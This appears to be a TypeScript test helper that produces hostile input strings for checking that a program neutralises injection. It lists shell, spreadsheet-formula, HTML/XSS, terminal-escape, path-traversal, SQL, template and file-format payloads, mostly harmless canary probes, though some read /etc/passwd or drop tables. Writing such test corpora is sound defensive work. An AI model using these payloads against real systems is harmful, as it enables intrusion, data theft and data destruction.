/** Texts that mean harm in one of the places they come to: shell, spreadsheet, web page, terminal, file system, database, template. */

export const hostileKinds = ['shell', 'formula', 'html', 'ansi', 'path', 'sql', 'template', 'file'] as const;
export type HostileKind = (typeof hostileKinds)[number];

/** In every text, so that it is found again. */
export const mark = 'BWX';
/** What a template would make of the sums in the texts. */
export const computed = '1337';

const patterns: Readonly<Record<HostileKind, readonly string[]>> = {
  shell: [
    '$(touch CANARY)',
    '`touch CANARY`',
    '; touch CANARY #',
    '| touch CANARY',
    '&& touch CANARY',
    "'; touch CANARY; '",
    '"; touch CANARY; "',
    '%SYSTEMROOT% & echo x > CANARY',
    '--ausgabe=CANARY',
    '-oX CANARY',
    '> CANARY',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text
    '${IFS}touch${IFS}CANARY',
  ],
  formula: [
    '=HYPERLINK("http://bwx.example/?"&A1;"Klick")',
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1:A9)',
    '\t=1+1',
    '=cmd|"/c calc"!A1',
    '=WEBSERVICE("http://bwx.example")',
    ' =1+1',
    'x\n=1+1',
    'x;=1+1',
    '"=1+1"',
    '＝1+1',
  ],
  html: [
    '<script>bwx()</script>',
    '<img src=x onerror=bwx()>',
    '"><svg onload=bwx()>',
    "' onmouseover='bwx()",
    '" autofocus onfocus="bwx()',
    '<a href="javascript:bwx()">x</a>',
    '[x](javascript:bwx())',
    '![x](http://bwx.example/x.png)',
    '<http://bwx.example>',
    '</title><script>bwx()</script>',
    '</style><script>bwx()</script>',
    '<!--<script>bwx()//--></script>',
    '&lt;script&gt;bwx()&lt;/script&gt;',
    '<iframe srcdoc="x">',
    ']]><x onload=bwx()>',
    '</script><script>bwx()</script>',
  ],
  ansi: [
    '\u001b[31mrot\u001b[0m',
    '\u001b]0;Titel\u0007',
    '\u001b[2J\u001b[H',
    '\u009b31m',
    '\u001b]8;;http://bwx.example\u0007x\u001b]8;;\u0007',
    'a\rb',
    'a\bb',
    '\u202egnp.exe',
    '\u2066x\u2069',
    'a\u200bb',
    '\u001bP$q"p\u001b\\',
  ],
  path: [
    '../../CANARY',
    '..\\..\\CANARY',
    '/../../CANARY',
    'a/../../CANARY',
    'CON',
    'NUL.txt',
    '....//CANARY',
    '%2e%2e%2fCANARY',
    'x:stream',
    '~/CANARY',
    'file:///etc/passwd',
    'a'.repeat(300),
  ],
  sql: [
    "'; DROP TABLE assessment; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "x'); DELETE FROM protokoll; --",
    "'||(select hash from protokoll)||'",
    '%',
    '_',
    "\\'",
    "1; ATTACH DATABASE 'CANARY' AS x",
    "') UNION SELECT payload FROM protokoll --",
  ],
  template: [
    '{{ 7 | times: 191 }}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text
    '${7*191}',
    '#{7*191}',
    '<%= 7*191 %>',
    '{% include "/etc/passwd" %}',
    '{{ "x" | append: "y" }}',
    '#eval("7*191")',
    '#read("/etc/passwd")',
    '#(7*191)',
    '{%- for i in (1..9) -%}x{%- endfor -%}',
    ':::diagramm\nx\n:::',
    '{{constructor.constructor("return 7*191")()}}',
    '$ 7 times 191 $',
    '`{{7*191}}`',
  ],
  file: [
    'x\nEND:VCALENDAR\nBEGIN:VCALENDAR',
    'x\r\nBEGIN:VALARM\r\nACTION:PROCEDURE',
    'x\nExecStart=/bin/touch CANARY',
    'x" } bwx 1\n',
    '---\n- !!js/function >\n',
    '\u0000x',
    '\ud800x',
    '\ufffe\uffff',
    '# HELP bwx x\nbwx 1',
    '🏛️'.repeat(40),
    'ä\u0308'.repeat(30),
    '“„”"\'´`',
  ],
};

/** The n-th text of the campaign: kinds in turn, each pattern with random words around it. @param canary a file that must never appear */
export function hostileText(random: () => number, index: number, canary: string): { kind: HostileKind; text: string } {
  const kind = hostileKinds[index % hostileKinds.length] as HostileKind;
  const list = patterns[kind];
  const pattern = (list[Math.floor(random() * list.length)] ?? '').replaceAll('CANARY', canary);
  const word = `${mark}${index.toString(36)}`;
  // At the beginning most of them are at their worst; in between they meet what the program puts around.
  const text = random() < 0.6 ? `${pattern}${word}` : random() < 0.5 ? `${word} ${pattern}` : `${word}${pattern}${word}`;
  return { kind, text: text.replaceAll('\u0000', '') };
}
